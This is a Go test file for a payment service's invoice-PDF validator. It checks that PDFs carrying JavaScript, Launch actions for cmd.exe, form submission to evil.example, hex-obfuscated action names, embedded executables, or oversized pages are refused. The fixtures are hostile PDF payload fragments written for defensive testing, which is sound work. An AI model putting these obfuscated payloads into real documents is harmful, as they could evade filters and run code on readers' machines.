package pay_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"cardpay/pay"
)

// pageWithAnnots is a one-page PDF whose page has one annotation, annot (object 4).
func pageWithAnnots(annot string) []byte {
	return buildPDF([]string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
		annot,
	}, "")
}

// TestCheckInvoiceFileRefusesActiveContentAtAnyDepth: every way a PDF runs something or
// carries another file is refused, wherever it sits (the catalog, a page's annotation,
// deep inside arrays, a compressed object stream) and however its names are spelt.
func TestCheckInvoiceFileRefusesActiveContentAtAnyDepth(t *testing.T) {
	const script, embedded = "JavaScript、プログラムの起動", "ほかのファイルが埋め込まれた PDF"
	deep := "<< /S /JavaScript /JS (1) >>"
	for range 10 {
		deep = "[ 1 " + deep + " ]"
	}
	tooDeep := strings.Repeat("[", 80) + strings.Repeat("]", 80)
	for _, tc := range []struct {
		name string
		b    []byte
		msg  string
	}{
		{"open action running JavaScript", pagesPDF(1, "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> "), script},
		{"open action launching a program", pagesPDF(1, "/OpenAction << /S /Launch /F (cmd.exe) >> "), script},
		{"open action submitting a form", pagesPDF(1, "/OpenAction << /S /SubmitForm /F (https://evil.example/) >> "), script},
		{"open action importing data", pagesPDF(1, "/OpenAction << /S /ImportData /F (x.fdf) >> "), script},
		{"name-obfuscated /J#61vaScript", pagesPDF(1, "/OpenAction << /S /J#61vaScript /J#53 (1) >> "), script},
		{"name-obfuscated /L#61unch", pagesPDF(1, "/OpenAction << /S /L#61#75nch /F (cmd.exe) >> "), script},
		{"a duplicated /S where the first one launches", pagesPDF(1, "/OpenAction << /S /Launch /S /GoTo /D [3 0 R /Fit] >> "), script},
		{"link annotation with JavaScript", pageWithAnnots("<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /JavaScript /JS (1) >> >>"), script},
		{"widget with additional actions", pageWithAnnots("<< /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /AA << /K << /S /Named /N /Print >> >> >>"), script},
		{"JavaScript ten arrays deep", pagesPDF(1, "/Extra "+deep+" "), script},
		{"nesting deeper than any invoice", pagesPDF(1, "/Extra "+tooDeep+" "), "PDF を読み取れませんでした"},
		{"JavaScript in a compressed object stream", objectStreamJSPDF(t), script},
		{"launch in a compressed object stream", objectStreamPDF(t, "<< /S /Launch /Win << /F (cmd.exe) >> >>"), script},
		{"obfuscated JavaScript in a compressed object stream", objectStreamPDF(t, "<< /S /J#61vaScript /J#53 (1) >>"), script},
		{"embedded files name tree", pagesPDF(1, "/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >> "), embedded},
		{"file attachment annotation", pageWithAnnots("<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /Type /Filespec /F (a.exe) >> >>"), embedded},
		{"file specification with an embedded stream", objectStreamPDF(t, "<< /S /GoTo /D [3 0 R /Fit] /Next << /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >> >>"), embedded},

		{"a plain link to a page is fine", pageWithAnnots("<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoTo /D [3 0 R /Fit] >> >>"), ""},
		{"an open action that only shows page 1 is fine", pagesPDF(1, "/OpenAction [3 0 R /Fit] "), ""},
		{"a link to a web page is fine", pageWithAnnots("<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.jp/) >> >>"), ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			info, msg := pay.CheckInvoiceFile("請求書.pdf", tc.b)
			if tc.msg == "" {
				require.Empty(t, msg)
				require.Equal(t, pay.InvoiceFileInfo{MediaType: pay.FileTypePDF, Pages: 1}, info)
				return
			}
			require.Contains(t, msg, tc.msg, fmt.Sprintf("%q", tc.b))
			require.Equal(t, pay.InvoiceFileInfo{}, info)
		})
	}
}

// TestCheckInvoiceFileRefusesAPageTooLargeToDraw: the OCR draws a scanned page at 300 DPI,
// so a page of a few bytes claiming 200 inches a side is refused, /UserUnit included.
func TestCheckInvoiceFileRefusesAPageTooLargeToDraw(t *testing.T) {
	page := func(box, extra string) []byte {
		return buildPDF([]string{
			"<< /Type /Catalog /Pages 2 0 R >>",
			"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
			"<< /Type /Page /Parent 2 0 R /MediaBox [" + box + "] " + extra + ">>",
		}, "")
	}
	for _, tc := range []struct {
		name string
		b    []byte
		msg  string
	}{
		{"A4", page("0 0 595 842", ""), ""},
		{"A3 landscape", page("0 0 1191 842", ""), ""},
		{"A2", page("0 0 1191 1684", ""), ""},
		{"200 inches a side", page("0 0 14400 14400", ""), "PDF のページが大きすぎます（5080×5080 mm）"},
		{"A4 with a user unit of 10", page("0 0 595 842", "/UserUnit 10 "), "PDF のページが大きすぎます（2099×2970 mm）"},
		{"a /Count of 1 over two real pages still reads", buildPDF([]string{
			"<< /Type /Catalog /Pages 2 0 R >>",
			"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 1 >>",
			"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
			"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
		}, ""), ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, msg := pay.CheckInvoiceFile("請求書.pdf", tc.b)
			if tc.msg == "" {
				require.Empty(t, msg)
			} else {
				require.Contains(t, msg, tc.msg)
			}
		})
	}
}
